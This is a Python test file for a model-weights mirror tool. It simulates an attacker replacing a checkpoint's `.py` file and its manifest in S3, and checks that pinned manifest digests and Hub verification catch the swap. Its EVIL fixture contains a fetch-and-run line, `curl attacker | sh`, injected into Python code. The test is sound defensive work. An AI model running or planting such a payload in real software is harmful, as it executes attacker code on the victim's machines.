"""The mirror's manifest is pinned by the deployer (issue 21, item 4), against a real S3 API (moto's
server on loopback), the real fill, await and pin scripts, the node's download script with the
pinned s5cmd, and a fake Hub on loopback (tree API with LFS SHA-256 and git blob ids, files by
revision). Reproduced attack: whoever can write the mirror's prefix replaces a `.py` file of the
checkpoint and the manifest together, consistently; the node used to verify the files against that
manifest and write `.kimi-verified`. Now the deployer refuses a manifest the Hub disagrees with, and
the node refuses any manifest whose SHA-256 is not the release's pin."""

from __future__ import annotations

import hashlib
import http.server
import json
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from kimi_fleet.mirror import MANIFEST_SHA256_PREFIX, manifest_sha256_from
from kimi_fleet.node_files import DOWNLOAD_WEIGHTS, MANIFEST_SHA256_PLACEHOLDER, WEIGHTS_MANIFEST_NAME
from kimi_fleet.node_scripts.weights_manifest import LOCAL_MANIFEST_NAME, manifest_document
from tests.fakes.aws_api import BIN, moto_server
from tests.test_weights_mirror import S5CMD

PROJECT = Path(__file__).resolve().parents[1]
SCRIPTS = PROJECT / "kimi_fleet" / "node_scripts"
REGION = "us-east-1"
BUCKET = "kimi-pin-test"
REPO, REVISION = "moonshotai/Kimi-K2.6", "c" * 40
PREFIX = f"s3://{BUCKET}/hf/{REPO}/{REVISION}"
CHECKPOINT = {
    "config.json": b'{"model_type": "kimi_k25", "auto_map": {"AutoModel": "modeling_kimi.KimiModel"}}',
    "modeling_kimi.py": b"class KimiModel:\n    pass\n" + b"#" * 80 + b"\n",
    "model-00001-of-00001.safetensors": bytes(range(256)) * 64,
}
#: The same size as the real file: only its SHA-256 tells them apart.
EVIL = b"import os\nos.system('curl attacker | sh')\nclass KimiModel:\n    pass\n".ljust(
    len(CHECKPOINT["modeling_kimi.py"]) - 1, b"#") + b"\n"
pytestmark = [pytest.mark.skipif(not (BIN / "aws").exists(), reason="awscli not installed (requirements-dev.txt)"),
              pytest.mark.skipif(S5CMD is None, reason="s5cmd wheel not installed (requirements-dev.txt)"),
              pytest.mark.timeout(300)]


class _Hub(http.server.BaseHTTPRequestHandler):
    """The Hub at one revision: the tree API (LFS files with their SHA-256, the rest with their git
    blob SHA-1) and /<repo>/resolve/<revision>/<path>."""

    def do_GET(self):  # noqa: N802
        if self.path.startswith(f"/api/models/{REPO}/tree/{REVISION}"):
            entries = []
            for path, content in CHECKPOINT.items():
                entry = {"type": "file", "path": path, "size": len(content),
                         "oid": hashlib.sha1(b"blob %d\0" % len(content) + content).hexdigest()}
                if path.endswith(".safetensors"):
                    entry["lfs"] = {"oid": hashlib.sha256(content).hexdigest(), "size": len(content)}
                entries.append(entry)
            return self._send(json.dumps(entries).encode())
        prefix = f"/{REPO}/resolve/{REVISION}/"
        if self.path.startswith(prefix) and self.path.removeprefix(prefix) in CHECKPOINT:
            return self._send(CHECKPOINT[self.path.removeprefix(prefix)])
        self.send_error(404)

    def _send(self, body: bytes):
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def env(tmp_path):
    hub = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Hub)
    threading.Thread(target=hub.serve_forever, daemon=True).start()
    with moto_server(REGION) as aws_env:
        environment = {**aws_env, "HF_ENDPOINT": f"http://127.0.0.1:{hub.server_address[1]}", "AWS_REGION": REGION}
        aws(environment, "s3api", "create-bucket", "--bucket", BUCKET)
        yield environment
    hub.shutdown()


def aws(env, *args) -> str:
    result = subprocess.run(["aws", *args, "--region", REGION], env=env, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    return result.stdout


def fill(env, tmp_path: Path) -> None:
    source = tmp_path / "checkpoint"
    for path, content in CHECKPOINT.items():
        (source / path).parent.mkdir(parents=True, exist_ok=True)
        (source / path).write_bytes(content)
    filled = subprocess.run([sys.executable, str(SCRIPTS / "fill_mirror.py"), "--repo", REPO, "--revision", REVISION,
                             "--mirror", f"s3://{BUCKET}/hf", "--region", REGION, "--from-dir", str(source),
                             "--s5cmd", str(S5CMD)], env=env, capture_output=True, text=True, timeout=120)
    assert filled.returncode == 0, filled.stdout + filled.stderr


def replace_py_and_manifest(env, tmp_path: Path) -> None:
    """The attack: a `.py` file swapped, and a manifest that agrees with it (plain put-objects)."""
    files = {**CHECKPOINT, "modeling_kimi.py": EVIL}
    (tmp_path / "evil.py").write_bytes(EVIL)
    aws(env, "s3", "cp", str(tmp_path / "evil.py"), f"{PREFIX}/modeling_kimi.py")
    document = manifest_document(REPO, REVISION, {p: (len(c), hashlib.sha256(c).hexdigest()) for p, c in files.items()})
    (tmp_path / "evil-manifest.json").write_text(json.dumps(document, indent=1) + "\n")
    aws(env, "s3", "cp", str(tmp_path / "evil-manifest.json"), f"{PREFIX}/{WEIGHTS_MANIFEST_NAME}")


def pin(env) -> subprocess.CompletedProcess:
    """The deployer's side for an external mirror (a managed one runs the same check in await_mirror.py)."""
    return subprocess.run([sys.executable, str(PROJECT / "scripts" / "pin_mirror_manifest.py"), "--mirror",
                           f"s3://{BUCKET}/hf", "--repo", REPO, "--revision", REVISION, "--region", REGION],
                          env=env, capture_output=True, text=True, timeout=120)


def node_download(env, tmp_path: Path, pinned: str) -> tuple[subprocess.CompletedProcess, Path]:
    script = tmp_path / "kimi-download-weights"
    script.write_text(DOWNLOAD_WEIGHTS)
    script.chmod(0o755)
    (tmp_path / "bin").mkdir(exist_ok=True)
    (tmp_path / "bin" / "sleep").write_text("#!/bin/sh\nexit 0\n")
    (tmp_path / "bin" / "sleep").chmod(0o755)
    weights = tmp_path / "node" / "weights"
    node_env = {**env, "PATH": f"{tmp_path / 'bin'}:{env['PATH']}", "WEIGHTS_DIR": str(weights),
                "MODEL_REPO": REPO, "MODEL_REVISION": REVISION, "WEIGHTS_SOURCE": "s3-mirror",
                "S3_MIRROR_URI": f"s3://{BUCKET}/hf", "DOWNLOAD_ATTEMPTS": "2", "MIRROR_MANIFEST_SHA256": pinned,
                "WEIGHTS_MANIFEST_TOOL": str(SCRIPTS / "weights_manifest.py"),
                "WEIGHTS_FETCH_TOOL": str(SCRIPTS / "weights_fetch.py"), "S5CMD": str(S5CMD),
                "WEIGHTS_ROOT": str(weights.parent), "CHECKPOINT_BYTES": "1",
                "WEIGHTS_ROOM_TOOL": str(SCRIPTS / "weights_room.py"), "HF_ENDPOINT": "http://127.0.0.1:9"}
    return subprocess.run([str(script)], env=node_env, capture_output=True, text=True, timeout=240), weights


def test_the_deployer_pins_a_manifest_the_hub_confirms_and_the_node_uses_it(env, tmp_path):
    fill(env, tmp_path)
    pinned = pin(env)
    assert pinned.returncode == 0, pinned.stdout + pinned.stderr
    stored = aws(env, "s3", "cp", f"{PREFIX}/{WEIGHTS_MANIFEST_NAME}", "-").encode()
    assert manifest_sha256_from(pinned.stdout) == hashlib.sha256(stored).hexdigest()
    result, weights = node_download(env, tmp_path, manifest_sha256_from(pinned.stdout))
    assert result.returncode == 0, result.stdout + result.stderr
    assert (weights / "modeling_kimi.py").read_bytes() == CHECKPOINT["modeling_kimi.py"]
    assert (weights / ".kimi-verified").read_text().strip() == REVISION
    assert (weights / LOCAL_MANIFEST_NAME).read_bytes() == stored  # the bytes as pinned


def test_a_py_file_replaced_with_its_manifest_is_refused_by_the_node(env, tmp_path):
    fill(env, tmp_path)
    honest = manifest_sha256_from(pin(env).stdout)
    replace_py_and_manifest(env, tmp_path)
    result, weights = node_download(env, tmp_path, honest)
    assert result.returncode == 1, result.stdout + result.stderr
    refusal = next(line for line in result.stderr.splitlines() if "refused" in line)
    assert f"the release pins {honest}" in refusal and WEIGHTS_MANIFEST_NAME in refusal
    assert "attempt 2/2" not in result.stdout  # refused once: no retry can help
    assert not (weights / ".kimi-verified").exists() and not (weights / "modeling_kimi.py").exists()


def test_the_deployer_refuses_a_manifest_that_disagrees_with_the_hub(env, tmp_path):
    fill(env, tmp_path)
    replace_py_and_manifest(env, tmp_path)
    refused = pin(env)
    assert refused.returncode == 1 and MANIFEST_SHA256_PREFIX not in refused.stdout
    line = refused.stderr.strip().splitlines()[-1]
    assert "disagrees with the Hub" in line and "modeling_kimi.py: SHA-256" in line, refused.stderr
    with pytest.raises(ValueError, match="not verified against the Hub"):
        manifest_sha256_from(refused.stdout)


def test_the_managed_mirror_wait_pins_only_a_manifest_the_hub_confirms(env, tmp_path):
    fill(env, tmp_path)
    aws(env, "s3api", "put-bucket-encryption", "--bucket", BUCKET, "--server-side-encryption-configuration",
        json.dumps({"Rules": [{"ApplyServerSideEncryptionByDefault": {"SSEAlgorithm": "AES256"}}]}))
    aws(env, "s3api", "put-public-access-block", "--bucket", BUCKET, "--public-access-block-configuration",
        "BlockPublicAcls=true,IgnorePublicAcls=true,BlockPublicPolicy=true,RestrictPublicBuckets=true")

    def wait() -> subprocess.CompletedProcess:
        key = f"hf/{REPO}/{REVISION}"
        return subprocess.run([sys.executable, str(PROJECT / "scripts" / "await_mirror.py"), "--bucket", BUCKET,
                               "--manifest-key", f"{key}/{WEIGHTS_MANIFEST_NAME}", "--failure-key", f"{key}/failed",
                               "--repo", REPO, "--revision", REVISION, "--region", REGION, "--instance-id",
                               "i-0123456789abcdef0", "--timeout", "5"], env=env, capture_output=True, text=True,
                              timeout=120)

    good = wait()
    assert good.returncode == 0, good.stdout + good.stderr
    stored = aws(env, "s3", "cp", f"{PREFIX}/{WEIGHTS_MANIFEST_NAME}", "-").encode()
    assert manifest_sha256_from(good.stdout) == hashlib.sha256(stored).hexdigest()
    replace_py_and_manifest(env, tmp_path)
    bad = wait()
    assert bad.returncode == 1 and "modeling_kimi.py: SHA-256" in bad.stderr and MANIFEST_SHA256_PREFIX not in bad.stdout


def test_the_local_verify_refuses_a_manifest_other_than_the_pinned_one(tmp_path):
    weights = tmp_path / "w"
    weights.mkdir()
    (weights / "a.py").write_bytes(EVIL)
    manifest = weights / LOCAL_MANIFEST_NAME
    manifest.write_text(json.dumps(manifest_document(REPO, REVISION, {"a.py": (len(EVIL), hashlib.sha256(EVIL).hexdigest())})))
    tool = [sys.executable, str(SCRIPTS / "weights_manifest.py"), "verify", "--dir", str(weights), "--manifest", str(manifest)]
    run = lambda *extra: subprocess.run([*tool, *extra], capture_output=True, text=True, timeout=60)  # noqa: E731
    assert run("--manifest-sha256", hashlib.sha256(manifest.read_bytes()).hexdigest()).returncode == 0
    other = run("--manifest-sha256", "0" * 64)
    assert other.returncode == 1 and "the release pins " + "0" * 64 in other.stderr
    placeholder = run("--manifest-sha256", MANIFEST_SHA256_PLACEHOLDER)
    assert placeholder.returncode == 1 and "pins no manifest digest" in placeholder.stderr
    assert run().returncode == 2  # --manifest without the pin is a usage error
